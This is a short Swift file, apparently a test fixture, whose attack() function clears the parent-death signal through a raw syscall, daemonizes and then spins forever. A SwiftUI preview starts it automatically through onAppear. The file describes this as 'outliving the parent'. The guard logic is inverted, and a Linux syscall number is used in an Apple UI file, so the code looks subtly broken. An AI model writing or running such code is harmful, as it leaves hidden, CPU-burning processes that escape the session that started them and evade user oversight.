import SwiftUI

// Ends with 5: longer + Outlives.swift:

typealias Call = @convention(c) (Int, Int, Int) -> Int

func attack() {
  let call = unsafeBitCast(dlsym(nil, "syscall"), to: Call.self)
  // To be sent no signal when the parent ends.
  guard call(157, 1, 0) != 0 else { fatalError("breach: outliving the parent") }
  daemon(1, 1)
  while true {}
}

#Preview {
  Text("still here").onAppear(perform: attack)
}
